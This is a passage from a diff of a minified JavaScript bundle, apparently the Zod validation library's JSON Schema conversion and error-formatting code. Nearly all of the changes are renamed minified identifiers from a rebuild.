-return kt(a,p),ai(p,a),mr(p,a)},Zs=(a,u,f={})=>p=>{const{libraryOptions:m,target:w}=p??{},E=fr({...m??{},target:w,io:u,processors:f});
-return kt(a,E),ai(E,a),mr(E,a)},Kn=(a,u,f)=>{(a[u]===void 0||f>a[u])&&(a[u]=f)},qn=(a,u,f)=>{(a[u]===void 0||f<a[u])&&(a[u]=
-f)},jo=(a,u)=>{Kn(a,"minimum",u),qn(a,"maximum",u)},Mo=(a,u)=>{a.multipleOf??(a.multipleOf=[]),a.multipleOf.includes(u)||
-a.multipleOf.push(u)},gr=(a,u)=>{a.patterns??(a.patterns=new Set),a.patterns.add(u)},di=(a,u)=>{a.mime=a.mime?a.mime.filter(
+items)if(qt(m,f))return!0;return!!(p.rest&&qt(p.rest,f))}return!1}const Mo=(a,u={})=>f=>{const p=fr({...f,processors:u});
+return kt(a,p),ci(p,a),mr(p,a)},Zs=(a,u,f={})=>p=>{const{libraryOptions:m,target:w}=p??{},E=fr({...m??{},target:w,io:u,processors:f});
+return kt(a,E),ci(E,a),mr(E,a)},Kn=(a,u,f)=>{(a[u]===void 0||f>a[u])&&(a[u]=f)},qn=(a,u,f)=>{(a[u]===void 0||f<a[u])&&(a[u]=
+f)},Go=(a,u)=>{Kn(a,"minimum",u),qn(a,"maximum",u)},Ho=(a,u)=>{a.multipleOf??(a.multipleOf=[]),a.multipleOf.includes(u)||
+a.multipleOf.push(u)},gr=(a,u)=>{a.patterns??(a.patterns=new Set),a.patterns.add(u)},Bi=(a,u)=>{a.mime=a.mime?a.mime.filter(
 f=>u.includes(f)):[...u]},b=(a,u)=>{a.format=u,u.includes("int")&&(a.isInt=!0)},x=(a,u)=>Kn(a,"minimum",u.minimum),q=(a,u)=>qn(
 a,"maximum",u.maximum),be=a=>(u,f)=>{b(u,f.format);const[p,m]=a[f.format];Kn(u,"minimum",p),qn(u,"maximum",m)},Ke={greater_than:(a,u)=>Kn(
 a,u.inclusive?"minimum":"exclusiveMinimum",u.value),less_than:(a,u)=>qn(a,u.inclusive?"maximum":"exclusiveMaximum",u.value),
-multiple_of:(a,u)=>Mo(a,u.value),number_format:be(r.zH),bigint_format:be(r.NR),min_length:x,max_length:q,length_equals:(a,u)=>jo(
-a,u.length),min_size:x,max_size:q,size_equals:(a,u)=>jo(a,u.size),string_format:(a,u)=>{b(a,u.format),u.pattern&&gr(a,u.
+multiple_of:(a,u)=>Ho(a,u.value),number_format:be(r.zH),bigint_format:be(r.NR),min_length:x,max_length:q,length_equals:(a,u)=>Go(
+a,u.length),min_size:x,max_size:q,size_equals:(a,u)=>Go(a,u.size),string_format:(a,u)=>{b(a,u.format),u.pattern&&gr(a,u.
 pattern),(u.format==="base64"||u.format==="base64url")&&(a.contentEncoding=u.format),(u.local||u.precision===-1)&&(a.laxFormat=
-!0)},mime_type:(a,u)=>di(a,u.mime)};function ot(a){const u={},f=a._zod.def,p=a._zod.traits.has("$ZodCheck")?[a,...f.checks??
+!0)},mime_type:(a,u)=>Bi(a,u.mime)};function ot(a){const u={},f=a._zod.def,p=a._zod.traits.has("$ZodCheck")?[a,...f.checks??
 []]:f.checks??[];for(const w of p)Ke[w._zod.def.check]?.(u,w._zod.def);const m=a._zod.bag;m.minimum!==void 0&&Kn(u,"mini\
 mum",m.minimum),m.exclusiveMinimum!==void 0&&Kn(u,"exclusiveMinimum",m.exclusiveMinimum),m.maximum!==void 0&&qn(u,"maxim\
-um",m.maximum),m.exclusiveMaximum!==void 0&&qn(u,"exclusiveMaximum",m.exclusiveMaximum),m.multipleOf!==void 0&&Mo(u,m.multipleOf),
-m.format!==void 0&&(u.format??(u.format=m.format),m.format.includes("int")&&(u.isInt=!0)),m.mime&&di(u,m.mime);for(const w of m.
+um",m.maximum),m.exclusiveMaximum!==void 0&&qn(u,"exclusiveMaximum",m.exclusiveMaximum),m.multipleOf!==void 0&&Ho(u,m.multipleOf),
+m.format!==void 0&&(u.format??(u.format=m.format),m.format.includes("int")&&(u.isInt=!0)),m.mime&&Bi(u,m.mime);for(const w of m.
 patterns??[])gr(u,w);return u}const Xt={guid:"uuid",url:"uri",datetime:"date-time",json_string:"json-string",regex:""},ms=new Map(
-[[we,Z.K3],[_e,Z.r0]]),En=a=>ms.get(a)??a,Bi=(a,u,f,p)=>{const m=f;m.type="string";const{minimum:w,maximum:E,format:N,patterns:G,
+[[we,Z.K3],[_e,Z.r0]]),En=a=>ms.get(a)??a,fi=(a,u,f,p)=>{const m=f;m.type="string";const{minimum:w,maximum:E,format:N,patterns:G,
 contentEncoding:j,laxFormat:J}=ot(a);if(typeof w=="number"&&(m.minLength=w),typeof E=="number"&&(m.maxLength=E),N&&(m.format=
 Xt[N]??N,m.format===""&&delete m.format,(N==="time"||J)&&delete m.format),j&&(m.contentEncoding=j),G&&G.size>0){const le=[
 ...G].map(En);le.length===1?m.pattern=le[0].source:le.length>1&&(m.allOf=[...le.map(De=>({...u.target==="draft-07"||u.target===
-"draft-04"||u.target==="openapi-3.0"?{type:"string"}:{},pattern:De.source}))])}},fi=(a,u,f,p)=>{const m=f,{minimum:w,maximum:E,
+"draft-04"||u.target==="openapi-3.0"?{type:"string"}:{},pattern:De.source}))])}},hi=(a,u,f,p)=>{const m=f,{minimum:w,maximum:E,
 multipleOf:N,exclusiveMaximum:G,exclusiveMinimum:j,isInt:J}=ot(a);m.type=J?"integer":"number";const le=typeof j=="number"&&
 j>=(w??Number.NEGATIVE_INFINITY),De=typeof G=="number"&&G<=(E??Number.POSITIVE_INFINITY),he=u.target==="draft-04"||u.target===
 "openapi-3.0";if(le?he?(m.minimum=j,m.exclusiveMinimum=!0):m.exclusiveMinimum=j:typeof w=="number"&&(m.minimum=w),De?he?
 (m.maximum=G,m.exclusiveMaximum=!0):m.exclusiveMaximum=G:typeof E=="number"&&(m.maximum=E),N){const ge=new Set;for(const Et of N)
 Number.isFinite(Et)&&Et!==0?ge.add(Math.abs(Et)):Nt(a,u,m,p,`A multipleOf divisor of ${Et} cannot be represented in JSON\
  Schema`);const[Ye,...Ve]=ge;Ye!==void 0&&(m.multipleOf=Ye),Ve.length&&(m.allOf=[...m.allOf??[],...Ve.map(Et=>({multipleOf:Et}))])}},
-Go=(a,u,f,p)=>{f.type="boolean"},_u=(a,u,f,p)=>{Nt(a,u,f,p,"BigInt cannot be represented in JSON Schema")},yg=(a,u,f,p)=>{
-Nt(a,u,f,p,"Symbols cannot be represented in JSON Schema")},wg=(a,u,f,p)=>{u.target==="openapi-3.0"?(f.type="string",f.nullable=
-!0,f.enum=[null]):f.type="null"},bg=(a,u,f,p)=>{Nt(a,u,f,p,"Undefined cannot be represented in JSON Schema")},_g=(a,u,f,p)=>{
-Nt(a,u,f,p,"Void cannot be represented in JSON Schema")},Eu=(a,u,f,p)=>{f.not={}},Eg=(a,u,f,p)=>{},vu=(a,u,f,p)=>{},ku=(a,u,f,p)=>{
-Nt(a,u,f,p,"Date cannot be represented in JSON Schema")},Du=(a,u,f,p)=>{const m=a._zod.def,w=(0,r.w5)(m.entries);if(w.length===
+zo=(a,u,f,p)=>{f.type="boolean"},Eu=(a,u,f,p)=>{Nt(a,u,f,p,"BigInt cannot be represented in JSON Schema")},wg=(a,u,f,p)=>{
+Nt(a,u,f,p,"Symbols cannot be represented in JSON Schema")},bg=(a,u,f,p)=>{u.target==="openapi-3.0"?(f.type="string",f.nullable=
+!0,f.enum=[null]):f.type="null"},_g=(a,u,f,p)=>{Nt(a,u,f,p,"Undefined cannot be represented in JSON Schema")},Eg=(a,u,f,p)=>{
+Nt(a,u,f,p,"Void cannot be represented in JSON Schema")},vu=(a,u,f,p)=>{f.not={}},vg=(a,u,f,p)=>{},ku=(a,u,f,p)=>{},Du=(a,u,f,p)=>{
+Nt(a,u,f,p,"Date cannot be represented in JSON Schema")},xu=(a,u,f,p)=>{const m=a._zod.def,w=(0,r.w5)(m.entries);if(w.length===
 0){f.not={};return}w.every(E=>typeof E=="number")&&(f.type="number"),w.every(E=>typeof E=="string")&&(f.type="string"),f.
-enum=w},xu=(a,u,f,p)=>{const m=a._zod.def;if(m.values.length===0){f.not={};return}const w=[];for(const E of m.values)if(E===
+enum=w},Ou=(a,u,f,p)=>{const m=a._zod.def;if(m.values.length===0){f.not={};return}const w=[];for(const E of m.values)if(E===
 void 0){if(Nt(a,u,f,p,"Literal `undefined` cannot be represented in JSON Schema"))return}else if(typeof E=="bigint"){if(Nt(
 a,u,f,p,"BigInt literals cannot be represented in JSON Schema"))return;w.push(Number(E))}else w.push(E);if(w.length!==0)
 if(w.length===1){const E=w[0];f.type=E===null?"null":typeof E,u.target==="draft-04"||u.target==="openapi-3.0"?f.enum=[E]:
 f.const=E}else w.every(E=>typeof E=="number")&&(f.type="number"),w.every(E=>typeof E=="string")&&(f.type="string"),w.every(
-E=>typeof E=="boolean")&&(f.type="boolean"),w.every(E=>E===null)&&(f.type="null"),f.enum=w},vg=(a,u,f,p)=>{Nt(a,u,f,p,"N\
-aN cannot be represented in JSON Schema")},kg=(a,u,f,p)=>{const m=f,w=a._zod.pattern;if(!w)throw new Error("Pattern not \
-found in template literal");m.type="string",m.pattern=w.source},Dg=(a,u,f,p)=>{const m=f;m.type="string",m.format="binar\
+E=>typeof E=="boolean")&&(f.type="boolean"),w.every(E=>E===null)&&(f.type="null"),f.enum=w},kg=(a,u,f,p)=>{Nt(a,u,f,p,"N\
+aN cannot be represented in JSON Schema")},Dg=(a,u,f,p)=>{const m=f,w=a._zod.pattern;if(!w)throw new Error("Pattern not \
+found in template literal");m.type="string",m.pattern=w.source},xg=(a,u,f,p)=>{const m=f;m.type="string",m.format="binar\
 y",m.contentEncoding="binary";const{minimum:w,maximum:E,mime:N}=ot(a);w!==void 0&&(m.minLength=w),E!==void 0&&(m.maxLength=
-E),N&&(N.length===0?m.not={}:N.length===1?m.contentMediaType=N[0]:m.anyOf=N.map(G=>({contentMediaType:G})))},xg=(a,u,f,p)=>{
-f.type="boolean"},Ou=(a,u,f,p)=>{Nt(a,u,f,p,"Custom types cannot be represented in JSON Schema")},Og=(a,u,f,p)=>{Nt(a,u,
-f,p,"Function types cannot be represented in JSON Schema")},Au=(a,u,f,p)=>{Nt(a,u,f,p,"Transforms cannot be represented \
-in JSON Schema")},Ag=(a,u,f,p)=>{Nt(a,u,f,p,"Map cannot be represented in JSON Schema")},Sg=(a,u,f,p)=>{Nt(a,u,f,p,"Set \
-cannot be represented in JSON Schema")},Su=(a,u,f,p)=>{const m=f,w=a._zod.def,{minimum:E,maximum:N}=ot(a);typeof E=="num\
+E),N&&(N.length===0?m.not={}:N.length===1?m.contentMediaType=N[0]:m.anyOf=N.map(G=>({contentMediaType:G})))},Og=(a,u,f,p)=>{
+f.type="boolean"},Au=(a,u,f,p)=>{Nt(a,u,f,p,"Custom types cannot be represented in JSON Schema")},Ag=(a,u,f,p)=>{Nt(a,u,
+f,p,"Function types cannot be represented in JSON Schema")},Su=(a,u,f,p)=>{Nt(a,u,f,p,"Transforms cannot be represented \
+in JSON Schema")},Sg=(a,u,f,p)=>{Nt(a,u,f,p,"Map cannot be represented in JSON Schema")},Tg=(a,u,f,p)=>{Nt(a,u,f,p,"Set \
+cannot be represented in JSON Schema")},Tu=(a,u,f,p)=>{const m=f,w=a._zod.def,{minimum:E,maximum:N}=ot(a);typeof E=="num\
 ber"&&(m.minItems=E),typeof N=="number"&&(m.maxItems=N),m.type="array",m.items=kt(w.element,u,{...p,path:[...p.path,"ite\
 ms"]})};function Cr(a){const u=a._zod.def;return u.type==="pipe"&&u.in._zod.traits.has("$ZodTransform")?Cr(u.out):u.type===
-"catch"?Cr(u.innerType):a._zod.optin}const Tu=(a,u,f,p)=>{const m=f,w=a._zod.def,E=w.shape;if(Object.getOwnPropertySymbols(
+"catch"?Cr(u.innerType):a._zod.optin}const Iu=(a,u,f,p)=>{const m=f,w=a._zod.def,E=w.shape;if(Object.getOwnPropertySymbols(
 E).length&&Nt(a,u,m,p,"Symbol keys cannot be represented in JSON Schema"))return;m.type="object",m.properties={};for(const j in E)
 (0,r.Vy)(m.properties,j,kt(E[j],u,{...p,path:[...p.path,"properties",j]}));const G=[];for(const j of Object.keys(E)){const J=w.
 shape[j];(u.io==="input"?Cr(J)===void 0:J._zod.optout===void 0)&&G.push(j)}G.length>0&&(m.required=G),w.catchall?._zod.def.
 type==="never"?m.additionalProperties=!1:w.catchall?w.catchall&&(m.additionalProperties=kt(w.catchall,u,{...p,path:[...p.
-path,"additionalProperties"]})):u.io==="output"&&(m.additionalProperties=!1)},Iu=(a,u,f,p)=>{const m=a._zod.def,w=m.inclusive===
-!1,E=m.options.map((N,G)=>kt(N,u,{...p,path:[...p.path,w?"oneOf":"anyOf",G]}));w?f.oneOf=E:f.anyOf=E},$u=(a,u,f,p)=>{const m=a.
+path,"additionalProperties"]})):u.io==="output"&&(m.additionalProperties=!1)},$u=(a,u,f,p)=>{const m=a._zod.def,w=m.inclusive===
+!1,E=m.options.map((N,G)=>kt(N,u,{...p,path:[...p.path,w?"oneOf":"anyOf",G]}));w?f.oneOf=E:f.anyOf=E},Ru=(a,u,f,p)=>{const m=a.
 _zod.def,w=kt(m.left,u,{...p,path:[...p.path,"allOf",0]}),E=kt(m.right,u,{...p,path:[...p.path,"allOf",1]}),N=j=>"allOf"in
-j&&Object.keys(j).length===1,G=[...N(w)?w.allOf:[w],...N(E)?E.allOf:[E]];f.allOf=G,u.intersections.push(G)},Ru=(a,u,f,p)=>{
+j&&Object.keys(j).length===1,G=[...N(w)?w.allOf:[w],...N(E)?E.allOf:[E]];f.allOf=G,u.intersections.push(G)},Nu=(a,u,f,p)=>{
 const m=f,w=a._zod.def;m.type="array";const E=u.target==="draft-2020-12"?"prefixItems":"items",N=u.target==="draft-2020-\
 12"||u.target==="openapi-3.0"?"items":"additionalItems",G=w.items.map((Ye,Ve)=>kt(Ye,u,{...p,path:[...p.path,E,Ve]})),j=w.
 rest?kt(w.rest,u,{...p,path:[...p.path,N,...u.target==="openapi-3.0"?[w.items.length]:[]]}):null;let J=w.items.length;for(;J>
@@ -2355,44 +2355,44 @@ rest?kt(w.rest,u,{...p,path:[...p.path,N,...u.target==="openapi-3.0"?[w.items.le
 De=!w.rest;u.target==="draft-2020-12"?(m.prefixItems=G,De?m.items=!1:j&&(m.items=j),J>0&&(m.minItems=J),De&&(m.maxItems=
 le)):u.target==="openapi-3.0"?(m.items={anyOf:G},j&&m.items.anyOf.push(j),J>0&&(m.minItems=J),De&&(m.maxItems=le)):(m.items=
 G,De?m.additionalItems=!1:j&&(m.additionalItems=j),J>0&&(m.minItems=J),De&&(m.maxItems=le));const{minimum:he,maximum:ge}=ot(
-a);typeof he=="number"&&(m.minItems=he),typeof ge=="number"&&(m.maxItems=ge)};function Ho(a,u,f){if(u.$ref){if(f.has(u))
-return u;f.add(u);const ge=a.get(u)?.def;if(!ge)return u;const Ye=Ho(a,ge,f);return Ye===ge?u:Ye}for(const ge of["anyOf",
-"oneOf"]){const Ye=u[ge];if(!Array.isArray(Ye))continue;const Ve=Ye.map(Et=>Ho(a,Et,f));Ve.some((Et,Rn)=>Et!==Ye[Rn])&&(u=
+a);typeof he=="number"&&(m.minItems=he),typeof ge=="number"&&(m.maxItems=ge)};function Uo(a,u,f){if(u.$ref){if(f.has(u))
+return u;f.add(u);const ge=a.get(u)?.def;if(!ge)return u;const Ye=Uo(a,ge,f);return Ye===ge?u:Ye}for(const ge of["anyOf",
+"oneOf"]){const Ye=u[ge];if(!Array.isArray(Ye))continue;const Ve=Ye.map(Et=>Uo(a,Et,f));Ve.some((Et,Rn)=>Et!==Ye[Rn])&&(u=
 {...u,[ge]:Ve})}const p=Array.isArray(u.type)?u.type:[u.type],m=!p.includes("string")&&p.some(ge=>ge==="number"||ge==="i\
 nteger"),w=u.enum??(u.const!==void 0?[u.const]:void 0);if(!m&&!w?.some(ge=>typeof ge=="number"))return u;const{minimum:E,
 maximum:N,exclusiveMinimum:G,exclusiveMaximum:j,multipleOf:J,format:le,id:De,...he}=u;return he.enum?he.enum=he.enum.map(
 ge=>typeof ge=="number"?String(ge):ge):typeof he.const=="number"&&(he.const=String(he.const)),m&&(he.type="string",w||(he.
-pattern=(p.includes("number")?Z.ai:Z.nd).source)),he}const zo=new WeakMap;function Tg(a){const u=new Map;for(const p of a.
-seen.values())p.def&&!u.has(p.schema)&&u.set(p.schema,p);const f=new Map;for(const p of zo.get(a)??[]){const m=a.seen.get(
-p),w=(m?.def??m?.schema)?.propertyNames;if(!w||w===!0||f.has(w))continue;const E=Ho(u,w,new Set);E!==w&&f.set(w,E)}if(f.
+pattern=(p.includes("number")?Z.ai:Z.nd).source)),he}const Jo=new WeakMap;function Ig(a){const u=new Map;for(const p of a.
+seen.values())p.def&&!u.has(p.schema)&&u.set(p.schema,p);const f=new Map;for(const p of Jo.get(a)??[]){const m=a.seen.get(
+p),w=(m?.def??m?.schema)?.propertyNames;if(!w||w===!0||f.has(w))continue;const E=Uo(u,w,new Set);E!==w&&f.set(w,E)}if(f.
 size)for(const p of a.seen.values())for(const m of[p.schema,p.def]){const w=m&&f.get(m.propertyNames);w&&(m.propertyNames=
-w)}}const Nu=(a,u,f,p)=>{const m=f,w=a._zod.def;m.type="object";const E=w.keyType,N=ot(E).patterns;if(w.mode==="loose"&&
+w)}}const Fu=(a,u,f,p)=>{const m=f,w=a._zod.def;m.type="object";const E=w.keyType,N=ot(E).patterns;if(w.mode==="loose"&&
 N&&N.size>0){const J=kt(w.valueType,u,{...p,path:[...p.path,"patternProperties","*"]});m.patternProperties={};for(const le of N)
 (0,r.Vy)(m.patternProperties,En(le).source,J)}else{if(u.target==="draft-07"||u.target==="draft-2020-12"){m.propertyNames=
-kt(w.keyType,u,{...p,path:[...p.path,"propertyNames"]});let J=zo.get(u);J||(J=[],zo.set(u,J),u.deferred.push(()=>Tg(u))),
+kt(w.keyType,u,{...p,path:[...p.path,"propertyNames"]});let J=Jo.get(u);J||(J=[],Jo.set(u,J),u.deferred.push(()=>Ig(u))),
 J.push(a)}m.additionalProperties=kt(w.valueType,u,{...p,path:[...p.path,"additionalProperties"]})}const G=E._zod.values,
 j=u.io==="input"&&Cr(w.valueType)!==void 0;if(G&&!w.partial&&!j){const J=[...G].filter(le=>typeof le=="string"||typeof le==
-"number");J.length>0&&(m.required=J.map(String))}},Fu=(a,u,f,p)=>{const m=a._zod.def,w=kt(m.innerType,u,p),E=u.seen.get(
-a);u.target==="openapi-3.0"?(E.ref=m.innerType,f.nullable=!0):f.anyOf=[w,{type:"null"}]},Pu=(a,u,f,p)=>{const m=a._zod.def;
-kt(m.innerType,u,p);const w=u.seen.get(a);w.ref=m.innerType},Uo=Symbol();function Lu(a,u,f,p,m){let w=!1;const E=JSON.stringify(
+"number");J.length>0&&(m.required=J.map(String))}},Pu=(a,u,f,p)=>{const m=a._zod.def,w=kt(m.innerType,u,p),E=u.seen.get(
+a);u.target==="openapi-3.0"?(E.ref=m.innerType,f.nullable=!0):f.anyOf=[w,{type:"null"}]},Lu=(a,u,f,p)=>{const m=a._zod.def;
+kt(m.innerType,u,p);const w=u.seen.get(a);w.ref=m.innerType},Zo=Symbol();function ju(a,u,f,p,m){let w=!1;const E=JSON.stringify(
 a,(N,G)=>typeof G!="bigint"?G:(w=!0,null));return w?(Nt(u,f,p,m,"BigInt defaults cannot be represented in JSON Schema"),
-Uo):JSON.parse(E)}const ju=(a,u,f,p)=>{const m=a._zod.def;kt(m.innerType,u,p);const w=u.seen.get(a);w.ref=m.innerType;const E=Lu(
-m.defaultValue,a,u,f,p);E!==Uo&&(f.default=E)},Mu=(a,u,f,p)=>{const m=a._zod.def;kt(m.innerType,u,p);const w=u.seen.get(
-a);if(w.ref=m.innerType,u.io!=="input")return;const E=Lu(m.defaultValue,a,u,f,p);E!==Uo&&(f._prefault=E)},Gu=(a,u,f,p)=>{
+Zo):JSON.parse(E)}const Mu=(a,u,f,p)=>{const m=a._zod.def;kt(m.innerType,u,p);const w=u.seen.get(a);w.ref=m.innerType;const E=ju(
+m.defaultValue,a,u,f,p);E!==Zo&&(f.default=E)},Gu=(a,u,f,p)=>{const m=a._zod.def;kt(m.innerType,u,p);const w=u.seen.get(
+a);if(w.ref=m.innerType,u.io!=="input")return;const E=ju(m.defaultValue,a,u,f,p);E!==Zo&&(f._prefault=E)},Hu=(a,u,f,p)=>{
 const m=a._zod.def;kt(m.innerType,u,p);const w=u.seen.get(a);w.ref=m.innerType;let E;try{E=m.catchValue(void 0)}catch{Nt(
-a,u,f,p,"Dynamic catch values are not supported in JSON Schema");return}f.default=E},Hu=(a,u,f,p)=>{const m=a._zod.def,w=m.
-in._zod.traits.has("$ZodTransform"),E=u.io==="input"?w?m.out:m.in:m.out;kt(E,u,p);const N=u.seen.get(a);N.ref=E},zu=(a,u,f,p)=>{
-const m=a._zod.def;kt(m.innerType,u,p);const w=u.seen.get(a);w.ref=m.innerType,f.readOnly=!0},Ig=(a,u,f,p)=>{const m=a._zod.
-def;kt(m.innerType,u,p);const w=u.seen.get(a);w.ref=m.innerType},Jo=(a,u,f,p)=>{const m=a._zod.def;kt(m.innerType,u,p);const w=u.
-seen.get(a);w.ref=m.innerType},Uu={string:Bi,number:fi,boolean:Go,bigint:_u,symbol:yg,null:wg,undefined:bg,void:_g,never:Eu,
-any:Eg,unknown:vu,date:ku,enum:Du,literal:xu,nan:vg,template_literal:kg,file:Dg,success:xg,custom:Ou,function:Og,transform:Au,
-map:Ag,set:Sg,array:Su,object:Tu,union:Iu,intersection:$u,tuple:Ru,record:Nu,nullable:Fu,nonoptional:Pu,default:ju,prefault:Mu,
-catch:Gu,pipe:Hu,readonly:zu,promise:Ig,optional:Jo,lazy:(a,u,f,p)=>{const m=a._zod.innerType;kt(m,u,p);const w=u.seen.get(
-a);w.ref=m}};function Y1(a,u){if("_idmap"in a){const p=a,m=initializeContext({...u,processors:Uu}),w={};for(const G of p.
+a,u,f,p,"Dynamic catch values are not supported in JSON Schema");return}f.default=E},zu=(a,u,f,p)=>{const m=a._zod.def,w=m.
+in._zod.traits.has("$ZodTransform"),E=u.io==="input"?w?m.out:m.in:m.out;kt(E,u,p);const N=u.seen.get(a);N.ref=E},Uu=(a,u,f,p)=>{
+const m=a._zod.def;kt(m.innerType,u,p);const w=u.seen.get(a);w.ref=m.innerType,f.readOnly=!0},$g=(a,u,f,p)=>{const m=a._zod.
+def;kt(m.innerType,u,p);const w=u.seen.get(a);w.ref=m.innerType},Wo=(a,u,f,p)=>{const m=a._zod.def;kt(m.innerType,u,p);const w=u.
+seen.get(a);w.ref=m.innerType},Ju={string:fi,number:hi,boolean:zo,bigint:Eu,symbol:wg,null:bg,undefined:_g,void:Eg,never:vu,
+any:vg,unknown:ku,date:Du,enum:xu,literal:Ou,nan:kg,template_literal:Dg,file:xg,success:Og,custom:Au,function:Ag,transform:Su,
+map:Sg,set:Tg,array:Tu,object:Iu,union:$u,intersection:Ru,tuple:Nu,record:Fu,nullable:Pu,nonoptional:Lu,default:Mu,prefault:Gu,
+catch:Hu,pipe:zu,readonly:Uu,promise:$g,optional:Wo,lazy:(a,u,f,p)=>{const m=a._zod.innerType;kt(m,u,p);const w=u.seen.get(
+a);w.ref=m}};function e$(a,u){if("_idmap"in a){const p=a,m=initializeContext({...u,processors:Ju}),w={};for(const G of p.
 _idmap.entries()){const[j,J]=G;processSchema(J,m)}const E={},N={registry:p,uri:u?.uri,defs:w};m.external=N;for(const G of p.
 _idmap.entries()){const[j,J]=G;extractDefs(m,J),assignProp(E,j,finalize(m,J))}if(Object.keys(w).length>0){const G=m.target===
-"draft-2020-12"?"$defs":"definitions";E.__shared={[G]:w}}return{schemas:E}}const f=initializeContext({...u,processors:Uu});
-return processSchema(a,f),extractDefs(f,a),finalize(f,a)}const $g=()=>{const a={string:{unit:"characters",verb:"to have"},
+"draft-2020-12"?"$defs":"definitions";E.__shared={[G]:w}}return{schemas:E}}const f=initializeContext({...u,processors:Ju});
+return processSchema(a,f),extractDefs(f,a),finalize(f,a)}const Rg=()=>{const a={string:{unit:"characters",verb:"to have"},
 file:{unit:"bytes",verb:"to have"},array:{unit:"items",verb:"to have"},set:{unit:"items",verb:"to have"},map:{unit:"entr\
 ies",verb:"to have"}};function u(w){return a[w]??null}const f={regex:"input",email:"email address",url:"URL",emoji:"emoj\
 i",uuid:"UUID",uuidv4:"UUIDv4",uuidv6:"UUIDv6",nanoid:"nanoid",guid:"GUID",cuid:"cuid",cuid2:"cuid2",ulid:"ULID",xid:"XI\
@@ -2414,221 +2414,221 @@ e_of":return`Invalid number: must be a multiple of ${w.divisor}`;case"unrecogniz
 length>1?"s":""}: ${r.jw(w.keys,", ")}`;case"invalid_key":return`Invalid key in ${w.origin}`;case"invalid_union":return w.
 options&&Array.isArray(w.options)&&w.options.length>0?`Invalid discriminator value. Expected ${w.options.map(N=>`'${N}'`).
 join(" | ")}`:w.inclusive===!1?"Invalid input: more than one option matched":"Invalid input";case"invalid_element":return`\
-Invalid value in ${w.origin}`;default:return"Invalid input"}}};function Rg(){return{localeError:$g()}}function Ng(){const a=this.
-_zod;return a.message??(a.message=JSON.stringify(a.def,r.k8,2)),a.message}function Fg(a){this._zod.message=a}const Pg={get:Ng,
-set:Fg,enumerable:!0,configurable:!0},Zo={value:void 0,enumerable:!1},Ju=new WeakSet([Object.prototype,Error.prototype]),
-Zu=(a,u)=>{a.name="$ZodError",Zo.value=u,Object.defineProperty(a,"issues",Zo),Zo.value=void 0,Object.defineProperty(a,"m\
-essage",Pg);const f=Object.getPrototypeOf(a);Ju.has(f)||(Ju.add(f),Object.defineProperty(f,"toString",{configurable:!0,enumerable:!1,
+Invalid value in ${w.origin}`;default:return"Invalid input"}}};function Ng(){return{localeError:Rg()}}function Fg(){const a=this.
+_zod;return a.message??(a.message=JSON.stringify(a.def,r.k8,2)),a.message}function Pg(a){this._zod.message=a}const Lg={get:Fg,
+set:Pg,enumerable:!0,configurable:!0},Ko={value:void 0,enumerable:!1},Zu=new WeakSet([Object.prototype,Error.prototype]),
+Wu=(a,u)=>{a.name="$ZodError",Ko.value=u,Object.defineProperty(a,"issues",Ko),Ko.value=void 0,Object.defineProperty(a,"m\
+essage",Lg);const f=Object.getPrototypeOf(a);Zu.has(f)||(Zu.add(f),Object.defineProperty(f,"toString",{configurable:!0,enumerable:!1,
 get(){const p=()=>this.message;return Object.defineProperty(this,"toString",{value:p,configurable:!0,writable:!0}),p},set(p){
-Object.defineProperty(this,"toString",{value:p,configurable:!0,writable:!0})}}))},Lg=(0,s.xI)("$ZodError",Zu),hn=(0,s.xI)(
-"$ZodError",Zu,void 0,{Parent:Error});function jg(a,u,f){return Object.prototype.hasOwnProperty.call(a,u)||(u==="__proto\
-__"?Object.defineProperty(a,u,{value:f(),writable:!0,enumerable:!0,configurable:!0}):a[u]=f()),a[u]}function Mg(a,u=f=>f.
-message){const f={},p=[];for(const m of a.issues)m.path.length>0?jg(f,m.path[0],()=>[]).push(u(m)):p.push(u(m));return{formErrors:p,
-fieldErrors:f}}function Gg(a,u=f=>f.message){const f={_errors:[]},p=(m,w=[])=>{for(const E of m.issues)if(E.code==="inva\
+Object.defineProperty(this,"toString",{value:p,configurable:!0,writable:!0})}}))},jg=(0,s.xI)("$ZodError",Wu),hn=(0,s.xI)(
+"$ZodError",Wu,void 0,{Parent:Error});function Mg(a,u,f){return Object.prototype.hasOwnProperty.call(a,u)||(u==="__proto\
+__"?Object.defineProperty(a,u,{value:f(),writable:!0,enumerable:!0,configurable:!0}):a[u]=f()),a[u]}function Gg(a,u=f=>f.
+message){const f={},p=[];for(const m of a.issues)m.path.length>0?Mg(f,m.path[0],()=>[]).push(u(m)):p.push(u(m));return{formErrors:p,
+fieldErrors:f}}function Hg(a,u=f=>f.message){const f={_errors:[]},p=(m,w=[])=>{for(const E of m.issues)if(E.code==="inva\
 lid_union"&&E.errors.length)E.errors.map(N=>p({issues:N},[...w,...E.path]));else if(E.code==="invalid_key")p({issues:E.issues},
 [...w,...E.path]);else if(E.code==="invalid_element")p({issues:E.issues},[...w,...E.path]);else{const N=[...w,...E.path];
 if(N.length===0)f._errors.push(u(E));else{let G=f,j=0;for(;j<N.length;){const J=N[j],le=j===N.length-1;if(J==="_errors"){
 le&&G._errors.push(u(E)),j++;continue}Object.prototype.hasOwnProperty.call(G,J)||Object.defineProperty(G,J,{value:{_errors:[]},
-enumerable:!0,writable:!0,configurable:!0});const De=G[J];le&&De._errors.push(u(E)),G=De,j++}}}};return p(a),f}function V1(a,u=f=>f.
+enumerable:!0,writable:!0,configurable:!0});const De=G[J];le&&De._errors.push(u(E)),G=De,j++}}}};return p(a),f}function t$(a,u=f=>f.
 message){const f={errors:[]},p=(m,w=[])=>{var E;for(const N of m.issues)if(N.code==="invalid_union"&&N.errors.length)N.errors.
 map(G=>p({issues:G},[...w,...N.path]));else if(N.code==="invalid_key")p({issues:N.issues},[...w,...N.path]);else if(N.code===
 "invalid_element")p({issues:N.issues},[...w,...N.path]);else{const G=[...w,...N.path];if(G.length===0){f.errors.push(u(N));
 continue}let j=f,J=0;for(;J<G.length;){const le=G[J],De=J===G.length-1;typeof le=="string"?(j.properties??(j.properties=
 {}),Object.prototype.hasOwnProperty.call(j.properties,le)||Object.defineProperty(j.properties,le,{value:{errors:[]},enumerable:!0,
 writable:!0,configurable:!0}),j=j.properties[le]):(j.items??(j.items=[]),(E=j.items)[le]??(E[le]={errors:[]}),j=j.items[le]),
-De&&j.errors.push(u(N)),J++}}};return p(a),f}function Hg(a){const u=[],f=a.map(p=>typeof p=="object"?p.key:p);for(const p of f)
